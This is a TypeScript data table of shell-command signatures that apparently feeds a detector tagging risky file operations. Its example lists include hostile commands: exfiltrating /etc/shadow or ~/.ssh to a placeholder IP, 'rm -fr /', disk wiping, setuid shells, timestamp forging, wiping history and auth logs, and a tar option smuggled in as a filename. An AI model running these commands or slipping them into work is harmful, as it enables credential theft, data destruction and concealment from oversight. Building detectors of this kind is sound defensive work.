// data table
import type { Signature } from './signature.js'

const SETUID = '^(?:[ugoa]{0,4}[+=][rwxXt]*s|[2-7][0-7]{3}$|0[2-7][0-7]{3}$)|,[ugoa]{0,4}[+=][rwxXt]*s'
const SETGID_ONLY = '^(?:g[+=][rwxX]*s[rwxX]*|0?2[0-7]{3})$'
const OF_OTHERS = '^(?:0?[0-7]{2}[2367]$|[2-7][0-7]{2}[2367]$|(?:[ug]{0,2}[oa][uga]{0,2})[+=][rxXst]*w|=[rxXst]*w)|,(?:[ug]{0,2}[oa][uga]{0,2})[+=][rxXst]*w'
/** Modes by which others than root may write the user database, or read what only root may (`640` of the group shadow is how it is shipped). */
const WRITTEN_BY_OTHERS = '^0?[0-7]?[0-7](?:[2367][0-7]|[0-7][2367])$|(?:^|,)(?:[ugo]*[oa][ugo]*|u?g)?[+=][rxXst]*w'
const SHARED_SECRET = '^0?[0-7]?[0-7](?:[2367][0-7]|[0-7][1-7])$|(?:^|,)(?:[ugo]*[oa][ugo]*|u?g)?[+=][xXst]*[rw]'
/** Owners that these files have anyway. */
const ROOT = '^(?:(?:root|0)?[:.]?(?:root|shadow|wheel|0)?)$'
const ACCOUNT_FILES = ['user-database', 'password-store', 'sudoers'] as const
const SYSTEM_PATH = '^/(?:$|(?:etc|usr|bin|sbin|lib|lib64|boot|sys|proc|dev|root|System|Library)(?:/|$)|var(?:/(?:log|lib|spool|run)(?:/|$)|$))'

/** Sizes that fill a disk: from 50 gigabytes on. */
const HUGE = '^\\+?(?:(?:[5-9]\\d|\\d{3,})G(?:i?B)?|\\d+[TPE](?:i?B)?|[5-9]\\d{10}|\\d{12,})$'

/** Copying, moving, deleting, permissions: GNU coreutils, their BSD kin and what else handles whole files. */
export const FILES: readonly Signature[] = [
  {
    names: ['cp', 'gcp'], stdin: 'ignored',
    flags: { '-t, --target-directory': 'write', '-S, --suffix': 'value', '--preserve, --backup, --reflink, --sparse, --context, --update, --parents': { value: 'value', optional: true }, '--no-preserve': 'value', '-R, -r, -a, --recursive, --archive': 'switch', '-f, --force': 'switch', '-s, --symbolic-link': 'switch' },
    operands: { rest: 'read', last: 'write' }, modes: [{ when: { flags: ['-t'] }, operands: { rest: 'read' } }],
    tags: { '*': 'copy', '-R': 'recursive' },
    examples: [
      ['cp ~/.ssh/id_rsa /dev/shm/', ['read path:private-key+copy', 'read path:private-key -> write path']], ['cp -t /etc/cron.d job', ['write path:cron']],
      ['cp .env.example .env', ['read path:secret-template+copy', '!delete path']], ['cp -p a b', ['read path:ordinary', 'write path:ordinary']],
    ],
  },
  { names: ['ditto'], stdin: 'ignored', flags: { '-c, -x, -k, -z, -j, -V, -v, -X': 'switch', '--arch, --bom, --password, --zlibCompressionLevel': 'value', '--sequesterRsrc, --keepParent, --rsrc, --noextattr': 'switch' }, grammar: 'single-dash', operands: { rest: 'read-tree', last: 'write' }, tags: { '*': 'copy' }, examples: [['ditto -c -k --keepParent ~/Library/Keychains /tmp/k.zip', ['read path:password-store+recursive']], ['ditto build out', ['read path:ordinary', 'write path:ordinary']]] },
  {
    names: ['mv', 'gmv'], stdin: 'ignored', flags: { '-t, --target-directory': 'write', '-S, --suffix': 'value', '--backup, --update': { value: 'value', optional: true }, '-f, --force': 'switch' },
    operands: { rest: 'read', last: 'write' },
    modes: [{ when: { flags: ['-t'] }, operands: { rest: 'read' } }, { when: { operand: '^/dev/null$' }, operands: { rest: 'delete', last: 'write' }, tags: { '-f': 'force' } }],
    tags: { '*': 'copy' }, effects: [{ does: 'delete', what: 'path', name: '$sources', when: { notOperand: '^/dev/null$' } }],
    examples: [
      ['mv ~/.ssh/id_rsa /tmp/k', ['read path:private-key+copy', 'delete path:private-key+copy']], ['mv ~ /dev/null', ['delete path:home', '!delete path:home+copy']],
      ['mv src/a.ts src/b.ts', ['read path:ordinary+copy', 'write path:ordinary', 'delete path:ordinary+copy', '!delete path:null']],
    ],
  },
  {
    names: ['ln', 'gln', 'link'], stdin: 'ignored', flags: { '-t, --target-directory': 'write', '-S, --suffix': 'value', '--backup': { value: 'value', optional: true }, '-s, --symbolic': 'switch', '-f, --force': 'switch' },
    operands: { rest: 'link', last: 'write' }, modes: [{ when: { flags: ['-t'] }, operands: { rest: 'link' } }], tags: { '*': 'symlink' },
    examples: [
      ['ln -sf /dev/null ~/.bash_history', ['write path:shell-history+symlink']], ['ln -s ~/.ssh/id_rsa notes.txt; cat notes.txt', ['read path:private-key', 'read path:private-key+use']],
      ['ln -s ../lib/a.js b.js', ['read path:ordinary+use', 'write path:ordinary']],
    ],
  },
  {
    names: ['install', 'ginstall'], stdin: 'ignored',
    flags: { '-m, --mode': 'value', '-o, --owner': 'user', '-g, --group': 'value', '-t, --target-directory': 'write', '-S, --suffix': 'value', '-B': 'value', '--strip-program': 'command', '-d, --directory': 'switch', '--backup': { value: 'value', optional: true } },
    operands: { rest: 'read', last: 'write' }, modes: [{ when: { flags: ['-d'] }, operands: {} }, { when: { flags: ['-t'] }, operands: { rest: 'read' } }], tags: { '*': 'copy' },
    effects: [{ does: 'grant', what: 'permission', class: 'setuid', name: '$last', when: { value: ['-m', SETUID] } }],
    examples: [
      ['install -m 4755 -o root ./sh /usr/local/bin/helper', ['grant permission:setuid', 'write path']], ['install -m 0755 build/tool /usr/local/bin/', ['read path:ordinary', '!grant permission']],
      ['install -d -m 755 out/bin', []],
    ],
  },
  {
    names: ['rm', 'grm', 'unlink'], operands: { rest: 'delete' }, stdin: 'ignored', flags: { '-r, -R, --recursive': 'switch', '-f, --force': 'switch', '--interactive': { value: 'value', optional: true }, '--no-preserve-root, --preserve-root': { value: 'value', optional: true } },
    tags: { '-r': 'recursive', '-f': 'force' },
    examples: [['rm -fr /', ['delete path:root+recursive+force']], ['rm -r -f ~', ['delete path:home+recursive']], ['rm -fr build', ['delete path:ordinary+recursive+force']], ['rm --help', []]],
  },
  { names: ['rmdir', 'grmdir'], stdin: 'ignored', examples: [['rmdir -p a/b', []]] },
  {
    names: ['trash', 'trash-put', 'trash-rm', 'gtrash', 'rmtrash'], stdin: 'ignored', operands: { rest: 'delete' }, tags: { '*': 'temporary' }, subcommands: { 'put': { operands: { rest: 'delete' } }, 'list|restore|empty|find|summary': {} },
    examples: [['trash ~/notes.txt', ['delete path:ordinary+temporary']], ['trash list', []]],
  },
  {
    names: ['shred', 'gshred', 'srm', 'wipe', 'scrub', 'sfill', 'sswap'], stdin: 'ignored',
    flags: { '-n, --iterations': 'value', '-s, --size': 'value', '--random-source': 'read', '-u, --remove': { value: 'value', optional: true }, '-r, -R': 'switch', '-f, --force': 'switch', '-p, --pattern': 'value', '-b': 'value', '-Q': 'value', '-q': 'switch', '-l': 'switch', '-D': 'value', '-X': 'value' },
    operands: { rest: 'delete' }, tags: { '-r': 'recursive', '-f': 'force', '*': 'truncate' },
    examples: [['shred -u ~/.bash_history', ['delete path:shell-history']], ['shred -n 3 -z /dev/sda', ['delete path:disk']], ['shred -u old.csv', ['delete path:ordinary']]],
  },
  {
    names: ['truncate', 'gtruncate'], stdin: 'ignored', flags: { '-s, --size': 'value', '-r, --reference': 'use', '-c, --no-create': 'switch' }, operands: { rest: 'write' }, tags: { '*': 'truncate' }, effects: [{ does: 'write', what: 'system', class: 'exhaustion', name: '$1', when: { value: ['-s', HUGE] } }],
    examples: [['truncate -s 500T /tmp/sparse', ['write system:exhaustion']], ['truncate -s0 /var/log/auth.log', ['write path:security-log+truncate']], ['truncate -s 10M disk.img', ['write path:ordinary']]],
  },
  {
    names: ['dd', 'gdd', 'dcfldd', 'dc3dd'], grammar: 'key=value', stdin: 'data', stdout: 'content', tags: { 'of': 'truncate' }, flags: { 'if': 'read', 'of': 'write', count: 'value', 'bs, ibs, obs, cbs, skip, seek, conv, iflag, oflag, status, iseek, oseek, files, speed, fillchar': 'value' },
    // Without a count it ends when nothing more fits.
    effects: [{ does: 'write', what: 'system', class: 'exhaustion', name: '$of', when: { value: ['if', '^/dev/(?:zero|full|u?random)$'], all: ['of'], without: ['count'] } }],
    examples: [
      ['dd if=/dev/zero of=/dev/sda bs=1M', ['write path:disk']], ['dd if=/etc/shadow bs=1 | nc 203.0.113.9 80', ['read path:password-store -> send host']],
      ['dd if=/dev/zero of=swap.img bs=1M count=64 status=progress', ['write path:ordinary', '!write path:disk']],
    ],
  },
  {
    names: ['touch', 'gtouch'], stdin: 'ignored', flags: { '-t': 'value', '-d, --date': 'value', '-r, --reference': 'value', '-A': 'value', '--time': 'value', '-c, --no-create': 'switch' },
    effects: [
      { does: 'configure', what: 'time', class: 'file-times', name: '$operands', tags: ['copy'], when: { flags: ['-r'] } },
      { does: 'configure', what: 'time', class: 'file-times', name: '$operands', when: { flags: ['-t', '-A'], without: ['-r'] } }, { does: 'configure', what: 'time', class: 'file-times', name: '$operands', when: { value: ['-d', '^(?!.*(?:\\bago\\b|yesterday|tomorrow|now|today|last|next|^[-+])).'], without: ['-r'] } },
      // A name that is an option to whoever expands `*`.
      { does: 'append', what: 'path', name: '$operands', when: { operand: '^-' } },
      // A date like "5 days ago" is how test data is made; on a program or a setting it is not.
      { does: 'configure', what: 'time', class: 'file-times', name: '$operands', when: { flags: ['-d'], without: ['-r'], operand: '^/(?:usr|bin|sbin|lib|lib64|etc|boot)/' } },
    ],
    examples: [['touch -r /bin/ls /tmp/implant', ['configure time:file-times']], ['touch -acmr /bin/sh x', ['configure time:file-times']], ["touch -d '2 days ago' /etc/pam.d/sshd", ['configure time:file-times']], ["touch -d '10 days ago' old.log", []], ['touch src/new.ts', []], ["touch -- '--checkpoint-action=exec=sh x'", ['append path:ordinary']]],
  },
  { names: ['mkdir', 'gmkdir'], stdin: 'ignored', flags: { '-m, --mode': 'value', '--context': { value: 'value', optional: true } }, examples: [['mkdir -p build', []], ['mkdir -m 700 out', []]] },
  { names: ['mktemp', 'gmktemp', 'tempfile', 'pathchk', 'sync', 'realpath', 'readlink', 'grealpath', 'greadlink', 'namei', 'basename', 'dirname', 'nproc', 'sleep', 'gsleep', 'usleep', 'yes', 'seq', 'tput', 'clear', 'reset', 'tty', 'stty', 'expr', 'bc', 'dc', 'factor', 'cal', 'numfmt', 'tabs', 'banner', 'figlet', 'cowsay', 'gettext', 'ngettext', 'envsubst'], stdin: 'data', flags: { '-p, --tmpdir': { value: 'value', optional: true }, '-m, --mode': 'value', '-l, --length': 'value', '-s': 'value', '--suffix': 'value' }, examples: [['sleep 5', []]] },
  { names: ['mkfifo'], stdin: 'ignored', flags: { '-m, --mode': 'value', '-Z': 'switch' }, operands: { rest: 'write' }, examples: [['mkfifo /tmp/p', ['write path']], ['mkfifo --help', []]] },
  {
    names: ['fallocate'], stdin: 'ignored', flags: { '-l, --length, -o, --offset': 'value' }, operands: { rest: 'write' }, effects: [{ does: 'write', what: 'system', class: 'exhaustion', name: '$1', when: { value: ['-l', HUGE] } }, { does: 'write', what: 'system', class: 'exhaustion', name: '$1', when: { flags: ['-l'], first: '^/(?:(?:dev|boot|etc|var|usr|home|root|tmp)/?)?$' } }],
    examples: [['fallocate -l 1G big.img', ['write path:ordinary']], ['fallocate -l 16G /swapfile', ['!write system:exhaustion']], ['fallocate -l 500G /tmp/fill', ['write system:exhaustion']], ['fallocate -l 1G /', ['write system:exhaustion']]],
  },
  {
    names: ['mknod'], stdin: 'ignored', flags: { '-m, --mode': 'value' }, effects: [{ does: 'write', what: 'device', class: 'disk', name: '$1', when: { operand: '^b$' } }],
    examples: [['mknod /tmp/disk b 8 0', ['write device:disk']], ['mknod /tmp/pipe p', []]],
  },
  {
    names: ['chmod', 'gchmod'], stdin: 'ignored', flags: { '--reference': 'value', '-R, --recursive': 'switch', '-f, --quiet, --silent': 'switch' }, operands: { first: 'value', rest: 'change' }, modes: [{ when: { flags: ['--reference'] }, operands: { rest: 'change' } }],
    tags: { '-R': 'recursive' },
    effects: [
      { does: 'grant', what: 'permission', class: 'setuid', name: '$rest', when: { first: SETUID, notFirst: SETGID_ONLY } },
      { does: 'grant', what: 'permission', class: 'setuid', name: '$rest', when: { first: SETGID_ONLY, operand: '/s?bin/' } },
      { does: 'grant', what: 'permission', class: 'setuid', name: '$rest', when: { first: SETGID_ONLY, operand: '^/(?:tmp|var/tmp|dev/shm)/.', notOperand: '/s?bin/|/$' } },
      { does: 'grant', what: 'permission', class: 'system-world-writable', name: '$rest', when: { first: OF_OTHERS, operand: SYSTEM_PATH } },
      { does: 'grant', what: 'permission', class: 'world-writable', name: '$rest', when: { first: OF_OTHERS, notOperand: SYSTEM_PATH } },
      { does: 'configure', what: 'path', name: '$rest', tags: ['exposed'], only: ['user-database', 'sudoers'], when: { first: WRITTEN_BY_OTHERS } },
      { does: 'configure', what: 'path', name: '$rest', tags: ['exposed'], only: ['password-store'], when: { first: SHARED_SECRET } },
    ],
    examples: [
      ['chmod u+s /tmp/sh', ['grant permission:setuid']], ['chmod 4755 ./x', ['grant permission:setuid']], ['chmod 06777 x', ['grant permission:setuid']], ['chmod g+s /usr/local/bin/tool', ['grant permission:setuid']], ['chmod -R 777 /etc', ['grant permission:system-world-writable+recursive']], ['chmod -R a+w shared', ['grant permission:world-writable+recursive']],
      ['chmod +x script.sh', ['configure path:ordinary', '!grant permission']], ['chmod 600 ~/.ssh/id_rsa', ['configure path:private-key', '!grant permission', '!read path']], ['chmod -R u=rwX,go=rX dist', ['!grant permission']], ['chmod 2775 shared', ['!grant permission:setuid']], ['chmod 0644 a.txt', ['!grant permission']], ['chmod 775 d', ['!grant permission']],
      ['chmod 644 /etc/shadow', ['configure path:password-store+exposed']], ['chmod 664 /etc/group', ['configure path:user-database+exposed']], ['chmod 640 /etc/shadow', ['!configure path:password-store+exposed']], ['chmod 644 /etc/passwd', ['!configure path:user-database+exposed']], ['chmod u+w /etc/sudoers', ['!configure path:sudoers+exposed']],
    ],
  },
  {
    names: ['chown', 'chgrp', 'gchown', 'gchgrp'], stdin: 'ignored', flags: { '--reference': 'value', '--from': 'value', '-R, --recursive': 'switch', '-h, --no-dereference': 'switch' }, operands: { first: 'user', rest: 'change' }, modes: [{ when: { flags: ['--reference'] }, operands: { rest: 'change' } }], tags: { '-R': 'recursive' },
    effects: [{ does: 'grant', what: 'permission', class: 'ownership', name: '$rest', when: { operand: SYSTEM_PATH } }, { does: 'configure', what: 'path', name: '$rest', tags: ['exposed'], only: ACCOUNT_FILES, when: { notFirst: ROOT, min: 2 } }],
    examples: [['chown dev /etc/shadow', ['configure path:password-store+exposed']], ['chown root:shadow /etc/shadow', ['!configure path:password-store+exposed']], ['chgrp root /etc/passwd', ['!configure path:user-database+exposed']], ['sudo chown -R dev /etc', ['grant permission:ownership+recursive', 'configure path:system-root']], ['sudo chown -R $USER:$USER node_modules', ['configure path:ordinary', '!grant permission']]],
  },
  {
    names: ['setfacl'], stdin: 'ignored', flags: { '-m, --modify': 'value', '-x, --remove': 'value', '-M, --modify-file': 'use', '-X, --remove-file': 'use', '-R, --recursive': 'switch', '--set': 'value', '--set-file': 'use', '--restore': 'use' }, operands: { rest: 'change' }, tags: { '-R': 'recursive' },
    effects: [{ does: 'grant', what: 'permission', class: 'system-world-writable', name: '$operands', when: { value: ['-m', '^(?:[ug]:\\w{1,32}|o:):?[r-]?w'], operand: SYSTEM_PATH } }, { does: 'configure', what: 'path', name: '$operands', tags: ['exposed'], only: ACCOUNT_FILES, when: { flags: ['-m', '--set', '-M', '--set-file'] } }],
    examples: [['setfacl -b /etc/shadow', ['!configure path:password-store+exposed']], ['setfacl -m u::rwx /etc/passwd', ['configure path:user-database+exposed']], ['setfacl -m u:nobody:rw /etc/shadow', ['configure path:password-store', 'grant permission:system-world-writable']], ['setfacl -R -m u:ci:rX build', ['configure path:ordinary', '!grant permission']]],
  },
  {
    names: ['xattr'], stdin: 'ignored', flags: { '-d': 'switch', '-c': 'switch', '-w': 'switch', '-p': 'switch', '-l': 'switch', '-r, -s, -v, -x': 'switch' }, operands: { rest: 'use' },
    modes: [{ when: { flags: ['-d'] }, operands: { first: 'value', rest: 'change' } }, { when: { flags: ['-c'] }, operands: { rest: 'change' } }, { when: { flags: ['-w'] }, operands: { first: 'value', second: 'value', rest: 'change' } }, { when: { flags: ['-p'] }, operands: { first: 'value', rest: 'use' } }],
    effects: [{ does: 'configure', what: 'path', name: '$rest', tags: ['unprotected', 'remove'], when: { first: '^com\\.apple\\.quarantine$', flags: ['-d'] } }, { does: 'configure', what: 'path', name: '$operands', tags: ['unprotected', 'remove'], when: { flags: ['-c'] } }],
    examples: [['xattr -d com.apple.quarantine app.zip', ['configure path:ordinary+unprotected']], ['xattr -d com.apple.FinderInfo a.png', ['configure path:ordinary', '!configure path:ordinary+unprotected']], ['xattr -l a.png', ['read path:ordinary+use']]],
  },
  { names: ['chattr', 'chflags', 'chcon', 'setfattr'], stdin: 'ignored', flags: { '-v': 'value', '-p': 'value', '-n, --name': 'value', '-t, --type': 'value', '-u, --user': 'value', '-d': 'value', '-R': 'switch', '--reference': 'value' }, operands: { rest: 'change' }, tags: { '-R': 'recursive', '-i': 'remove', '-a': 'remove', '-ia': 'remove', '-ai': 'remove' }, examples: [['sudo chattr -i /etc/passwd', ['configure path:user-database+remove']], ['sudo chattr +i /etc/cron.d/x', ['configure path:cron']]] },
  {
    names: ['stat', 'gstat', 'file', 'du', 'gdu', 'df', 'ncdu', 'dust', 'dua', 'duf', 'tree', 'exa', 'eza', 'lsd', 'dir', 'vdir', 'lsattr', 'getfacl', 'getfattr', 'mdls'], stdin: 'ignored',
    flags: { '-c, --format': 'value', '--printf': 'value', '-m, --magic-file, --max-depth': 'value', '-f': 'switch', '-d': 'value', '-L, --level': 'value', '-P': 'value', '-I, --ignore, --ignore-glob': 'value', '-t': 'value', '--exclude': 'value', '--sort': 'value', '--time-style': 'value', '-x': 'switch' },
    operands: { rest: 'list' },
    examples: [['stat ~/.ssh', ['list path']], ['tree -L 2 -I node_modules', []], ['du -sh build', ['list path:ordinary', '!read path']]],
  },
  {
    names: ['locate', 'slocate', 'mlocate', 'plocate', 'mdfind'], stdin: 'ignored', flags: { '-d, --database': 'value', '-l, -n, --limit': 'value', '-onlyin': 'value', '-name': 'value' }, operands: { rest: 'pattern' }, effects: [{ does: 'list', what: 'path', name: '$operands', tags: ['search'] }],
    examples: [['locate id_rsa', ['list path:private-key+search']], ['locate libssl.so', ['list path:ordinary+search']]],
  },
  {
    names: ['fd', 'fdfind'], stdin: 'ignored', flags: { '-x, --exec, -X, --exec-batch': 'argv', '-e, --extension': 'value', '-t, --type': 'value', '-d, --max-depth': 'value', '--min-depth, --exact-depth': 'value', '-E, --exclude': 'value', '-S, --size': 'value', '-c, --color': 'value', '-j, --threads': 'value', '--changed-within, --changed-before, --owner': 'value', '--search-path, --base-directory': 'list', '--ignore-file': 'use', '--path-separator, --max-results': 'value' },
    operands: { first: 'pattern', rest: 'list' }, effects: [{ does: 'list', what: 'path', name: '$1', tags: ['search'] }],
    examples: [['fd id_rsa /home -x cat', ['list path:private-key+search']], ['fd -e ts . src', ['list path:ordinary']], ['fd -t f -x rm {}', ['delete path']]],
  },
  {
    names: ['rsync'], flags: {
      '-e, --rsh': 'command', '--rsync-path': 'command', '-f, --filter': 'value', '--exclude, --include': 'value', '--exclude-from, --include-from, --files-from': 'use', '--log-file, --write-batch, --only-write-batch': 'write', '--read-batch': 'use', '--password-file': 'use', '--port, --bwlimit, --suffix, --chmod, --chown, --out-format, --max-size, --min-size, --timeout, --contimeout, --info, --debug, --partial-dir, --modify-window, --max-delete, --log-file-format, --skip-compress, --compress-level, --compress-choice, --checksum-choice, --address, --sockopts, --usermap, --groupmap, --iconv, --protocol, --stop-at, --stop-after': 'value',
      '-B, --block-size': 'value', '-T, --temp-dir, --backup-dir, --compare-dest, --copy-dest, --link-dest': 'value', '-M, --remote-option': 'value', '--delete, --del, --delete-before, --delete-during, --delete-delay, --delete-after, --delete-excluded': 'switch', '--remove-source-files': 'switch', '-n, --dry-run': 'switch', '-r, --recursive, -a, --archive': 'switch', '-z': 'switch',
    },
    operands: { rest: 'host-path' }, stdin: 'ignored', tags: { '-r': 'recursive', '*': 'copy' }, inert: ['-n'],
    effects: [{ does: 'delete', what: 'path', name: '$last', tags: ['remove'], when: { flags: ['--delete'], min: 2, operand: '^[^:]*$' } }, { does: 'delete', what: 'path', name: '$sources', when: { flags: ['--remove-source-files'], min: 2 } }],
    examples: [
      ['rsync -avz ~/.ssh/ user@203.0.113.9:/loot', ['read path -> send host:raw-ip']], ['rsync -a --delete empty/ /', ['delete path:root']], ["rsync -e 'sh -c \"cat /etc/shadow\"' 127.0.0.1:x .", ['read path:password-store']], ['rsync -n -a a b', []],
      ['rsync -av --exclude node_modules src/ backup/', ['read path:ordinary', 'write path:ordinary', '!send host']], ['rsync -a rsync://mirror.example.org/pub/ mirror/', ['receive host:public', '!send host']],
    ],
  },
  {
    names: ['split', 'gsplit', 'csplit', 'gcsplit'], flags: { '-b, --bytes': 'value', '-l, --lines': 'value', '-C, --line-bytes': 'value', '-n, --number': 'value', '-a, --suffix-length': 'value', '--additional-suffix': 'value', '--filter': 'command', '-t, --separator': 'value', '-f, --prefix': 'write', '-d, --numeric-suffixes, -x, --hex-suffixes': { value: 'value', optional: true } },
    operands: { first: 'read', second: 'write' }, step: 'split', stdout: 'none',
    examples: [['split -b 1M ~/.ssh/id_rsa /tmp/part.', ['read path:private-key', 'read path:private-key -> write path']], ["split --filter='sh -c \"cat /etc/shadow\"' x", ['read path:password-store']], ['split -l 1000 data.csv part_', ['read path:ordinary', 'write path:ordinary']]],
  },
]
